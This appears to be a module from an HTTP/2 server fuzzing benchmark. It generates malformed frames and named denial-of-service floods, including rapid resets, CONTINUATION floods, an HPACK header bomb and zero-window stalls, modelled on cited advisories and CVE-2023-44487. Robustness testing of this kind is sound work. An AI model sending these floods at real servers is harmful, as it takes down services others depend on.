"""Frames in an order, a number or a place that HTTP/2 forbids, or only bears; seeded, without I/O.

The floods are those that brought servers down: https://www.kb.cert.org/vuls/id/605641 (2019),
https://www.kb.cert.org/vuls/id/421644 (CONTINUATION), CVE-2023-44487 (resets).
"""

import random
from collections.abc import Callable

from benchmarks.fuzz import requests
from benchmarks.fuzz.http2 import (
    ACK,
    DATA,
    END_HEADERS,
    END_STREAM,
    GOAWAY,
    HEADERS,
    LARGEST_FRAME,
    MORE,
    PADDED,
    PING,
    PRIORITY,
    PUSH_PROMISE,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    WITH_PRIORITY,
    block,
    body,
    frame,
    head,
    settings,
)

_MOST = (1 << 31) - 1


def call(stream: int, request: requests.Request) -> list[bytes]:
    """A request as frames."""
    trailers = head(stream, block(request.trailers), end=True) if request.trailers else []
    frames = head(stream, block(request.headers))
    return [*frames, *body(stream, request.parts, end=not trailers), *trailers]


def odd(chance: random.Random, stream: int, marker: bytes) -> list[bytes]:
    """Frames that are whole and do not belong where they stand."""
    held = block(requests.good(marker).headers)
    right = call(stream, requests.good(marker))
    data, padded = right[-1], frame(DATA, PADDED, stream, bytes((200,)) + b"short")
    some = chance.randbytes(chance.choice((0, 1, 3, 5, 7, 9)))
    update = frame(WINDOW_UPDATE, 0, chance.choice((0, stream)), _MOST.to_bytes(4, "big"))
    choices: tuple[list[bytes], ...] = (
        [data],
        [*right, data],
        [*right[:-1], frame(RST_STREAM, 0, stream, bytes(4)), data],
        [frame(HEADERS, END_HEADERS, chance.choice((0, 2, max(stream - 2, 0))), held)],
        [frame(HEADERS, END_HEADERS | PADDED, stream, bytes((255,)) + held)],
        [frame(HEADERS, END_HEADERS | WITH_PRIORITY, stream, stream.to_bytes(4, "big") + held)],
        [frame(HEADERS, END_HEADERS, stream, held), frame(HEADERS, END_HEADERS, stream, held)],
        [frame(HEADERS, END_HEADERS, stream, chance.randbytes(40))],
        [frame(HEADERS, END_HEADERS, stream, b"\x3f\xff\xff\xff\xff\xff\xff")],
        [frame(HEADERS, END_HEADERS, stream, b"\xff\xff\xff\xff\x7f")],
        [frame(HEADERS, 0, stream, held), frame(PING, 0, 0, bytes(8))],
        [frame(MORE, END_HEADERS, stream, held)],
        [*right[:-1], padded],
        [*right[:-1], frame(DATA, 0, stream, bytes(LARGEST_FRAME + 1))],
        [frame(RST_STREAM, 0, stream + 100, bytes(4))],
        [frame(RST_STREAM, 0, 0, bytes(4))],
        [*right, frame(RST_STREAM, 0, stream, some)],
        [frame(PRIORITY, 0, stream, stream.to_bytes(4, "big") + b"\xff")],
        [frame(PRIORITY, 0, stream, some)],
        [frame(PUSH_PROMISE, END_HEADERS, stream, (2).to_bytes(4, "big") + held)],
        [frame(PING, chance.choice((0, ACK)), chance.choice((0, stream)), some)],
        [frame(GOAWAY, 0, 0, bytes(8)), *right],
        [frame(GOAWAY, 0, stream, some)],
        [frame(WINDOW_UPDATE, 0, chance.choice((0, stream)), chance.choice((bytes(4), some)))],
        [*right[:-1], update, update, data],
        [frame(SETTINGS, ACK, 0, some)],
        [frame(SETTINGS, 0, stream, bytes(6))],
        [frame(SETTINGS, 0, 0, some)],
        [settings((chance.randrange(10), chance.choice((0, 1, _MOST, (1 << 32) - 1))))],
        [settings((4, 1 << 31))],
        [settings((5, chance.choice((0, LARGEST_FRAME - 1, 1 << 24))))],
        [frame(chance.randrange(10, 256), 0xFF, stream, some)],
    )
    return chance.choice(choices)


def flood(chance: random.Random, stream: int, marker: bytes) -> tuple[str, list[bytes]]:
    """A name, and many frames that are little work to send."""
    held = block(requests.good(marker).headers)
    many = chance.choice((100, 1000, 3000))
    streams = range(stream, stream + 2 * min(many, 200), 2)
    large = requests.good(marker, 10_000)
    # One long name and value in the table, then nothing but references to it.
    bomb = b"\x40" + b"\x04x-he" + b"\x7f\xa1\x1e" + b"v" * 4000 + b"\xbe" * 15_000
    zero, one = bytes(4), (1).to_bytes(4, "big")
    floods: dict[str, Callable[[], list[bytes]]] = {
        "pings": lambda: [frame(PING, 0, 0, n.to_bytes(8, "big")) for n in range(many)],
        "settings": lambda: [settings((3, n), (4, 65_535)) for n in range(many)],
        "resets": lambda: [
            part
            for n in streams
            for part in (*call(n, requests.good(marker)), frame(RST_STREAM, 0, n, zero))
        ],
        "requests cut off": lambda: [
            part
            for n in streams
            for part in (*head(n, held), frame(RST_STREAM, 0, n, (8).to_bytes(4, "big")))
        ],
        "continuations": lambda: [
            frame(HEADERS, END_STREAM, stream, held),
            *(frame(MORE, 0, stream, block([(b"x-%d" % n, b"v" * 50)])) for n in range(many)),
        ],
        "empty continuations": lambda: [
            frame(HEADERS, 0, stream, b""),
            *(frame(MORE, 0, stream, b"") for _ in range(many)),
        ],
        "empty data": lambda: [
            *head(stream, held),
            *(frame(DATA, 0, stream, b"") for _ in range(many)),
        ],
        "nameless headers": lambda: [
            frame(HEADERS, END_HEADERS, stream, held + b"\x00\x00\x00" * min(many, 4000))
        ],
        "priorities": lambda: [
            frame(PRIORITY, 0, n * 2 + 1, one + b"\x00") for n in range(1, many)
        ],
        "window updates": lambda: [frame(WINDOW_UPDATE, 0, 0, one) for _ in range(many)],
        "a header bomb": lambda: head(stream, held + bomb),
        "answers that are not read": lambda: [
            settings((4, 0)),
            *(part for n in list(streams)[:40] for part in call(n, large)),
        ],
        "one byte at a time": lambda: [
            *head(stream, held),
            *body(stream, [bytes((b,)) for b in requests.good(marker).parts[0]]),
        ],
        "many streams": lambda: [part for n in streams for part in head(n, held)],
    }
    name = chance.choice(tuple(floods))
    return f"flood: {name}", floods[name]()
